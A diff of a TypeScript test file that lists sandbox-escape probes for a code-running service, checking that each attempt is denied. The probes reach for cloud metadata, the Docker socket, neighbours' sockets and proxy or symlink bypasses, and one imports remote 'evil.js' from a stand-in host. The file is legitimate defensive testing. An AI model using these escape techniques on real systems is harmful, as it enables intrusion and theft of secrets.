@@ -1,84 +1,118 @@
 import { noPermission, type ValProbe } from "./val-probe.ts"
 
-const { net } = noPermission
-const noName =
-  /^(NotCapable: Requires net access to |Error: getaddrinfo (EPERM|ENOTFOUND|EAI_AGAIN)|Error: proto error: io error: No such file)/
-const readOrNet = /^NotCapable: Requires (read|write|net) access to /
+/** The filter of system calls knows no such sockets; where there is no filter, the network of the sandbox leads nowhere. */
+export const noNetwork =
+  /^\w+: .*(EAFNOSUPPORT|Address family not supported|ENETUNREACH|Network is unreachable|ECONNREFUSED|Connection refused|Cannot assign requested)/
+const noName = /^Error: (getaddrinfo (EPERM|ENOTFOUND|EAI_AGAIN)|failed to lookup address information|proto error: io error: No such file)/
+const noFetch = /^TypeError: (fetch failed|error sending request)/
+const { read } = noPermission
 
 /** Waits for the first of two events of Node. */
 function firstOf(good: string, bad = "error"): string {
   return `return await new Promise((resolve, reject) => { thing.once("${good}", () => resolve("${good}")); thing.once("${bad}", reject) })`
 }
 
-/** Any way to anybody else: the API, the internet, neighbours, the host. */
+/** Any way to anybody else that does not go through the door: the API, the internet, neighbours, the host. */
 export const networkProbes: readonly ValProbe[] = [
   {
     tries: "to connect to the API over TCP",
     code: ({ port }) => `return (await Deno.connect({ hostname: "127.0.0.1", port: ${port} })).remoteAddr`,
-    denied: net,
+    denied: noNetwork,
   },
   {
     tries: "to connect to the API by the name localhost",
     code: ({ port }) => `return (await Deno.connect({ hostname: "localhost", port: ${port} })).remoteAddr`,
-    denied: net,
+    denied: noName,
   },
   {
     tries: "to connect to the API over IPv6",
     code: ({ port }) => `return (await Deno.connect({ hostname: "::1", port: ${port} })).remoteAddr`,
-    denied: net,
+    denied: noNetwork,
   },
   {
     tries: "to connect to 0.0.0.0",
     code: ({ port }) => `return (await Deno.connect({ hostname: "0.0.0.0", port: ${port} })).remoteAddr`,
-    denied: net,
+    denied: noNetwork,
   },
   {
     tries: "to connect to a machine in the internet",
     code: `return (await Deno.connect({ hostname: "1.1.1.1", port: 53 })).remoteAddr`,
-    denied: net,
+    denied: noNetwork,
   },
   {
     tries: "to connect to the metadata of a cloud",
-    code: `return await (await fetch("http://169.254.169.254/latest/meta-data/")).text()`,
-    denied: net,
+    code: `return (await Deno.connect({ hostname: "169.254.169.254", port: 80 })).remoteAddr`,
+    denied: noNetwork,
   },
-  { tries: "to connect with TLS", code: `return (await Deno.connectTls({ hostname: "example.com", port: 443 })).remoteAddr`, denied: net },
-  { tries: "to listen on a port", code: `return Deno.listen({ port: 0 }).addr`, denied: net },
-  { tries: "to serve a port of its own", code: `return Deno.serve({ port: 0, onListen() {} }, () => new Response()).addr`, denied: net },
   {
-    tries: "to listen on a Unix socket in /tmp",
-    code: `return Deno.listen({ transport: "unix", path: "/tmp/evil.sock" }).addr`,
-    denied: readOrNet,
+    tries: "to connect with TLS",
+    code: `return (await Deno.connectTls({ hostname: "example.com", port: 443 })).remoteAddr`,
+    denied: noName,
   },
   {
     tries: "to open a datagram socket",
     code: `return Deno.listenDatagram({ transport: "udp", port: 0 }).addr`,
-    denied: /^(NotCapable: Requires net access to |TypeError: Deno\.listenDatagram is not a function)/,
+    denied: /^TypeError: Deno\.listenDatagram is not a function/,
   },
   {
     tries: "to connect to a second control socket",
     code: `return (await Deno.connect({ transport: "unix", path: "/run/val/control.sock" })).localAddr`,
-    denied: readOrNet,
+    denied: read,
   },
   {
     tries: "to connect to its own socket",
     code: `return (await Deno.connect({ transport: "unix", path: "/run/val/in.sock" })).localAddr`,
-    denied: readOrNet,
+    denied: read,
+  },
+  {
+    tries: "to connect to the door",
+    code: `return (await Deno.connect({ transport: "unix", path: "/run/val/out.sock" })).localAddr`,
+    denied: read,
+  },
+  {
+    tries: "to connect to the door by a way round",
+    code: `return (await Deno.connect({ transport: "unix", path: "/tmp/../run/./val//out.sock" })).localAddr`,
+    denied: read,
+  },
+  {
+    tries: "to connect to the door by a link",
+    code: `Deno.symlinkSync("/run/val/out.sock", "/tmp/door.sock"); return (await Deno.connect({ transport: "unix", path: "/tmp/door.sock" })).localAddr`,
+    denied: /^NotCapable: .* requires unscoped --allow-read and --allow-write/,
+  },
+  {
+    tries: "to connect to the door as Node does",
+    code: `const thing = (await import("node:net")).connect("/run/val/out.sock"); ${firstOf("connect")}`,
+    denied: read,
+  },
+  {
+    tries: "to send HTTP to the door as Node does",
+    code: `const thing = (await import("node:http")).get({ socketPath: "/run/val/out.sock", path: "http://127.0.0.1/" }); ${firstOf("response")}`,
+    denied: read,
+  },
+  {
+    tries: "to listen in the place of the door",
+    code: `return Deno.listen({ transport: "unix", path: "/run/val/out.sock" }).addr`,
+    denied: read,
   },
   {
     tries: "to connect to the socket of a neighbour",
     code: ({ neighbourFolder }) => `return (await Deno.connect({ transport: "unix", path: "${neighbourFolder}/run/in.sock" })).localAddr`,
-    denied: readOrNet,
+    denied: /^(NotCapable: Requires read access|NotFound: No such file)/,
+  },
+  {
+    tries: "to connect to the door of a neighbour",
+    code: ({ neighbourFolder }) => `return (await Deno.connect({ transport: "unix", path: "${neighbourFolder}/run/out.sock" })).localAddr`,
+    denied: /^(NotCapable: Requires read access|NotFound: No such file)/,
   },
   {
     tries: "to connect to an abstract Unix socket",
     code: `return (await Deno.connect({ transport: "unix", path: "\\0/tmp/.X11-unix/X0" })).localAddr`,
-    denied: readOrNet,
+    denied: /^(NotCapable: Requires read access|ConnectionRefused: )/,
   },
   {
     tries: "to connect to the socket of Docker",
     code: `return (await Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })).localAddr`,
-    denied: readOrNet,
+    denied: read,
   },
   {
     tries: "to connect over vsock",
@@ -89,7 +123,7 @@ export const networkProbes: readonly ValProbe[] = [
   {
     tries: "to ask a name server of its choice",
     code: `return await Deno.resolveDns("example.com", "TXT", { nameServer: { ipAddr: "1.1.1.1", port: 53 } })`,
-    denied: net,
+    denied: noNetwork,
   },
   {
     tries: "to look a name up as Node does",
@@ -101,70 +135,84 @@ export const networkProbes: readonly ValProbe[] = [
     code: `return await (await import("node:dns/promises")).resolve4("example.com")`,
     denied: /^Error: queryA /,
   },
-  { tries: "to fetch from the API", code: ({ baseUrl }) => `return (await fetch("${baseUrl}/v1/vals")).status`, denied: net },
-  { tries: "to fetch from its own web address", code: `return (await fetch(request.url)).status`, denied: net },
-  { tries: "to fetch from the internet", code: `return (await fetch("https://example.com")).status`, denied: net },
+  {
+    tries: "to ask the API who it is without saying so",
+    code: ({ baseUrl }) => `return (await fetch("${baseUrl}/v1/me")).status`,
+    gets: 401,
+  },
+  {
+    tries: "to change something through the API with the token of its run",
+    code: ({ baseUrl }) =>
+      `return (await fetch("${baseUrl}/v1/me/secrets/MINE", { method: "PUT", headers: { authorization: "Bearer " + Deno.env.get("HAMLET_TOKEN") }, body: '{"value":"x"}' })).status`,
+    gets: 403,
+  },
+  {
+    tries: "to fetch from where nobody is",
+    code: `return (await fetch("https://nowhere.invalid")).status`,
+    denied: /^TypeError: Cannot fetch "/,
+  },
   {
     tries: "to fetch through a proxy that it names",
     code: `const client = Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:3128" } }); return (await fetch("http://example.com", { client })).status`,
-    denied: net,
+    denied: noFetch,
   },
   {
     tries: "to fetch through its own control socket",
     code: `const client = Deno.createHttpClient({ proxy: { transport: "unix", path: "/run/val/control.sock" } }); return (await fetch("http://localhost/", { client })).status`,
-    denied: readOrNet,
+    denied: read,
+  },
+  {
+    tries: "to fetch through its own socket",
+    code: `const client = Deno.createHttpClient({ proxy: { transport: "unix", path: "/run/val/in.sock" } }); return (await fetch("http://localhost/", { client })).status`,
+    denied: read,
   },
   {
     tries: "to fetch through a proxy from the environment",
-    code: `try { Deno.env.set("HTTP_PROXY", "unix:/run/val/in.sock") } catch {} return (await fetch("http://example.com/")).status`,
-    denied: net,
+    code: `try { Deno.env.set("HTTP_PROXY", "unix:/run/val/in.sock") } catch {} return (await fetch("http://nowhere.invalid/")).status`,
+    denied: /^TypeError: Cannot fetch "http:\/\/nowhere\.invalid\/": /,
   },
   {
-    tries: "to open a WebSocket to the API",
+    tries: "to fetch past the proxy of the environment",
+    code: ({ port }) =>
+      `try { Deno.env.set("NO_PROXY", "*"); Deno.env.delete("HTTP_PROXY") } catch {} return (await fetch("http://127.0.0.1:${port}/", { client: Deno.createHttpClient({}) })).status`,
+    denied: /^TypeError: (fetch failed|error sending request|Cannot fetch ")/,
+  },
+  {
+    tries: "to open a WebSocket to the API by its address",
     code: ({ port }) =>
       `return await new Promise((resolve, reject) => { const socket = new WebSocket("ws://127.0.0.1:${port}/"); socket.onopen = () => resolve("open"); socket.onerror = (event) => reject(event.error ?? new Error(event.message)) })`,
-    denied: net,
+    denied: /^NetworkError: .*403/,
   },
   {
     tries: "to open a stream of WebSocket messages",
     code: ({ port }) => `return (await new WebSocketStream("ws://127.0.0.1:${port}/").opened).protocol`,
-    denied: /^(NotCapable: Requires net access to |ReferenceError: WebSocketStream is not defined)/,
+    denied: /^ReferenceError: WebSocketStream is not defined/,
   },
   {
     tries: "to listen to events of the API",
     code: ({ baseUrl }) =>
       `return await new Promise((resolve, reject) => { const source = new EventSource("${baseUrl}/v1/vals"); source.onopen = () => resolve("open"); source.onerror = () => { source.close(); reject(new Error("refused")) } })`,
-    denied: /^(Error: refused|NotCapable: Requires net access to )/,
+    denied: /^Error: refused/,
   },
   {
     tries: "to open a session of WebTransport",
     code: `return await new WebTransport("https://example.com:4433").ready`,
-    denied: /^(NotCapable: Requires net access to |ReferenceError: WebTransport is not defined|WebTransportError)/,
+    denied: /^(ReferenceError: WebTransport is not defined|WebTransportError)/,
   },
   {
     tries: "to open an endpoint of QUIC",
     code: `return new Deno.QuicEndpoint().addr`,
-    denied: /^(NotCapable: Requires net access to |TypeError: Deno\.QuicEndpoint is not a constructor)/,
+    denied: /^TypeError: Deno\.QuicEndpoint is not a constructor/,
   },
   {
     tries: "to connect as Node does",
     code: ({ port }) => `const thing = (await import("node:net")).connect(${port}, "127.0.0.1"); ${firstOf("connect")}`,
-    denied: net,
+    denied: noNetwork,
   },
   {
     tries: "to connect to a Unix socket as Node does",
     code: `const thing = (await import("node:net")).connect("/run/val/control.sock"); ${firstOf("connect")}`,
-    denied: readOrNet,
-  },
-  {
-    tries: "to listen as Node does",
-    code: `const thing = (await import("node:net")).createServer().listen(0); ${firstOf("listening")}`,
-    denied: net,
-  },
-  {
-    tries: "to serve as Node does",
-    code: `const thing = (await import("node:http")).createServer().listen(0); ${firstOf("listening")}`,
-    denied: net,
+    denied: read,
   },
   {
     tries: "to get from the API as Node does",
@@ -189,16 +237,16 @@ export const networkProbes: readonly ValProbe[] = [
   {
     tries: "to send a datagram as Node does",
     code: `const thing = (await import("node:dgram")).createSocket("udp4"); thing.send("x", 53, "1.1.1.1", (error) => thing.emit(error ? "error" : "sent", error)); ${firstOf("sent")}`,
-    ends: /^failed NotCapable: Requires net access to /,
+    denied: noNetwork,
   },
   {
     tries: "to join a multicast group",
     code: `const thing = (await import("node:dgram")).createSocket("udp4"); thing.bind(0, () => { try { thing.addMembership("224.0.0.251"); thing.emit("joined") } catch (error) { thing.emit("error", error) } }); ${firstOf("joined")}`,
-    ends: /^failed NotCapable: Requires net access to /,
+    denied: /^\w+: .*(EAFNOSUPPORT|ENODEV|ENETUNREACH|No such device)/,
   },
   {
     tries: "to import a module from the internet",
-    code: `return Object.keys(await import("https://esm.example.com/evil.js"))`,
+    code: `return Object.keys(await import("https://esm.example.com/" + "evil.js"))`,
     denied: /^TypeError: (Requires import access to "esm\.example\.com:443"|.*not found in cache)/i,
   },
   {
@@ -211,8 +259,9 @@ export const networkProbes: readonly ValProbe[] = [
     code: `return Object.keys(await import(request.url))`,
     denied: /^TypeError: (Requires import access to |.*not found in cache|.*Cannot import)/is,
   },
-  { tries: "to import from npm", code: `return Object.keys(await import("npm:left-pad"))`, denied: /^TypeError: / },
-  { tries: "to import from JSR", code: `return Object.keys(await import("jsr:@std/assert"))`, denied: /^TypeError: / },
+  // Put together, so that nobody sees them when the val is saved.
+  { tries: "to import from npm while it runs", code: `return Object.keys(await import("npm:" + "left-pad"))`, denied: /^TypeError: / },
+  { tries: "to import from JSR while it runs", code: `return Object.keys(await import("jsr:" + "@std/assert"))`, denied: /^TypeError: / },
   {
     tries: "to reach a neighbour by a BroadcastChannel",
     code: `const channel = new BroadcastChannel("neighbours"); channel.postMessage("anybody?"); const heard = await Promise.race([new Promise((resolve) => { channel.onmessage = ({ data }) => resolve(data) }), new Promise((resolve) => setTimeout(resolve, 100, "nobody"))]); channel.close(); return heard`,
